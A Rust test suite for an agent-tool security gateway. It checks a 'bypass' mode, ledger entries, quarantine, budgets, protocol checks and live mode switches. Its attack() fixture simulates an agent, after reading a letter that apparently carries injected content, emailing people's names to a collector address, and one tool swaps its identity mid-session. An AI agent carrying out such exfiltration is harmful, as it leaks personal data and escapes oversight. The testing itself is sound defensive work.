//! A gateway in which nothing is decided: what goes through then, what does not, and what the ledger has of it.

use std::fs;

use serde_json::{Value, json};

use crate::here::{Here, post_to, verified};
use crate::{LETTER, TASK, call, done, runtime};

const BYPASS: &str = "[policy]\nmode = \"bypass\"\n";
const LIST: &str = r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#;

fn attack() -> Value {
    json!({"recipient": "harvest@collector.example", "body": "Ann, Bob, Cleo"})
}

/// The words of each entry.
fn words(here: &Here) -> Vec<String> {
    let all = here.payloads().into_iter();
    all.map(|it| it.to_string()).collect()
}

/// Whether an operator and Prometheus are told this.
fn says(here: &Here, enforcement: &str) {
    let told = here.operate("GET", "/v1/status", "");
    assert!(
        told.contains(&format!("\"enforcement\":\"{enforcement}\"")),
        "{told}"
    );
    let line = format!("masec_bypass {}", u8::from(enforcement == "bypass"));
    let told = here.metrics();
    assert!(told.lines().any(|it| it == line), "{told}");
}

#[test]
fn what_is_denied_otherwise_goes_through_and_is_not_written_down() {
    let more = format!("{BYPASS}[[redactions]]\nname = \"dates\"\npattern = \"4 June\"\n");
    let mut here = Here::new("bypass", &more);
    assert!(here.log().contains("nothing is decided"), "{}", here.log());
    let (code, _, warned) = here.masec(&["config", "check"]);
    assert!(
        code == 0 && warned.contains("nothing is decided"),
        "{warned}"
    );
    says(&here, "bypass");
    runtime().block_on(async {
        let client = here.client("clerk's key").await;
        assert_eq!(client.list_all_tools().await.unwrap().len(), 5);
        let letter = json!({"name": "offsite"});
        let (error, text) = done(&client, call("read_letter", &letter, Some(TASK))).await;
        assert!(!error && text == LETTER, "{text}");
        let (error, text) = done(&client, call("send_email", &attack(), Some(TASK))).await;
        assert!(!error && text == "sent", "{text}");
        // Nor is a tool that is another than it was kept from anybody.
        done(&client, call("turn", &json!({}), None)).await;
        let tools = client.list_all_tools().await.unwrap();
        assert!(tools.iter().any(|tool| tool.name == "describe"));
        let (error, text) = done(&client, call("describe", &json!({}), None)).await;
        assert!(!error && text == "hello", "{text}");
    });
    let entries = words(&here);
    assert!(
        entries.len() == 1 && entries[0].contains("bypass begins"),
        "{entries:?}"
    );
    let told = here.metrics();
    let count = told
        .lines()
        .find_map(|it| it.strip_prefix("masec_bypassed_total "));
    assert!(
        count.unwrap_or_default().parse::<u64>().unwrap() > 8,
        "{told}"
    );
    // It ends with the process, in the ledger too.
    here.signal("-TERM");
    let ended = here.gateway.as_mut().unwrap().0.wait().unwrap();
    assert_eq!(ended.code(), Some(0), "{}", here.log());
    verified(&here.dir.join("ledger"));
    here.start();
    let entries = words(&here);
    assert_eq!(entries.len(), 3, "{entries:?}");
    assert!(entries[1].contains("bypass ends"), "{entries:?}");
    assert!(entries[2].contains("bypass begins"), "{entries:?}");
    // One that is killed says nothing, and the next process says it in its place.
    drop(here.gateway.take());
    let path = here.dir.join("masec.toml");
    let text = fs::read_to_string(&path).unwrap();
    fs::write(&path, text.replace("bypass", "traced")).unwrap();
    here.start();
    says(&here, "enforcing");
    let entries = words(&here);
    assert_eq!(entries.len(), 4, "{entries:?}");
    assert!(entries[3].contains("bypass ended with"), "{entries:?}");
    drop(here.gateway.take());
    here.start();
    assert_eq!(words(&here).len(), 4);
}

#[test]
fn who_is_unknown_cut_off_or_over_a_budget_is_refused_all_the_same() {
    let more = format!(
        "{BYPASS}[[agents]]\nname = \"frugal\"\nkey_sha256 = \"{}\"\nbudget = {{ calls_per_minute = 2 }}\n",
        crate::hash("frugal's key")
    );
    let here = Here::new("bypass-refused", &more);
    let asked = |key: &str, body: &str| {
        let headers = format!("Authorization: Bearer {key}\r\n");
        post_to(&here.agents, "/mcp/office", &headers, body)
    };
    assert!(asked("nobody's key", LIST).contains(" 401 "));
    let closed = here.post("/mcp/closed", "Authorization: Bearer clerk's key\r\n", LIST);
    assert!(closed.contains(" 403 "), "{closed}");
    // The protocol is kept to: headers say what the body says, and what two readers could read in two ways goes nowhere.
    let headers = "Authorization: Bearer other's key\r\nMCP-Protocol-Version: 2026-07-28\r\nMcp-Method: tools/call\r\n";
    let answer = here.post("/mcp/office", headers, LIST);
    assert!(answer.contains("-32020"), "{answer}");
    let twice = LIST.replace("\"id\":1", "\"id\":1,\"id\":2");
    assert!(asked("other's key", &twice).contains(" 400 "));
    let long = LIST.replace("\"id\":1", &format!("\"id\":\"{}\"", "x".repeat(100_001)));
    assert!(asked("other's key", &long).contains(" 413 "));
    for n in 0..3 {
        let answer = asked("frugal's key", LIST);
        let spent = answer.contains("has used up its calls");
        assert_eq!(spent, n == 2, "{answer}");
    }
    let cut = r#"{"what":"agent:clerk","reason":"a test"}"#;
    here.operate("POST", "/v1/quarantine", cut);
    let answer = asked("clerk's key", LIST);
    assert!(answer.contains("is in quarantine"), "{answer}");
    let told = here.operate("GET", "/metrics", "");
    for line in [
        "masec_stops_total{rule=\"quarantine\"} 1",
        "masec_stops_total{rule=\"budget\"} 1",
        "masec_stopped_by_agent_total{agent=\"clerk\"} 1",
        "masec_interactions_total{effect=\"deny\"} 2",
    ] {
        assert!(told.lines().any(|it| it == line), "{line}: {told}");
    }
    here.operate("DELETE", "/v1/quarantine", cut);
    assert!(!asked("clerk's key", LIST).contains("quarantine"));
    // The beginning, and what the operator did.
    assert_eq!(words(&here).len(), 3);
}

#[test]
fn it_is_switched_into_and_out_of_without_a_restart_and_its_ends_are_written_down() {
    let here = Here::new("bypass-reload", "[policy]\nmode = \"traced\"\n");
    let to = |mode: &'static str| {
        here.changed(move |text| {
            let (before, rest) = text.split_once("mode = \"").unwrap();
            let (_, after) = rest.split_once('"').unwrap();
            format!("{before}mode = \"{mode}\"{after}")
        });
    };
    runtime().block_on(async {
        let client = here.client("clerk's key").await;
        let letter = json!({"name": "offsite"});
        done(&client, call("read_letter", &letter, Some(TASK))).await;
        let (error, text) = done(&client, call("send_email", &attack(), Some(TASK))).await;
        assert!(error && text.contains("was held"), "{text}");
        let before = words(&here).len();
        // A person's word counts as ever, and is written down.
        to("bypass");
        says(&here, "bypass");
        let held = here.held();
        let id = held[0]["id"].as_str().unwrap();
        assert_eq!(here.approvals(&["deny", id]).0, 0);
        let (error, text) = done(&client, call("send_email", &attack(), Some(TASK))).await;
        assert!(!error && text == "sent", "{text}");
        // What its principal says meanwhile is told once somebody listens.
        let mail = json!({"recipient": "ann@office.example", "body": "The meeting is at ten."});
        let words_of = "Send ann@office.example a mail: 'The meeting is at ten.'";
        let task = Some(("t2", words_of));
        let (error, text) = done(&client, call("send_email", &mail, task)).await;
        assert!(!error && text == "sent", "{text}");
        // Once more changes nothing.
        to("bypass");
        to("traced");
        says(&here, "enforcing");
        let entries = words(&here);
        assert_eq!(entries.len(), before + 3, "{entries:?}");
        assert!(entries[before].contains("bypass begins"), "{entries:?}");
        assert!(entries[before + 1].contains("denied"), "{entries:?}");
        // Two calls and their answers.
        assert!(
            entries[before + 2].contains("bypass ends: 4 messages"),
            "{entries:?}"
        );
        let (error, text) = done(&client, call("send_email", &mail, task)).await;
        assert!(!error && text == "sent", "{text}");
        let entries = words(&here);
        let later = &entries[before + 3..];
        assert!(later.iter().any(|it| it.contains(words_of)), "{entries:?}");
        // What was read before is known, and what was denied is denied.
        let (error, text) = done(&client, call("send_email", &attack(), Some(TASK))).await;
        assert!(error && text.contains("was refused"), "{text}");
    });
    let log = here.log();
    for change in [
        "before=\"enforcing\" after=\"bypass\"",
        "before=\"bypass\" after=\"enforcing\"",
    ] {
        assert_eq!(log.matches(change).count(), 1, "{log}");
    }
    // Not from a mode whose labels are others.
    to("strict");
    assert!(
        here.log().contains("it takes a restart to change `mode`"),
        "{}",
        here.log()
    );
}
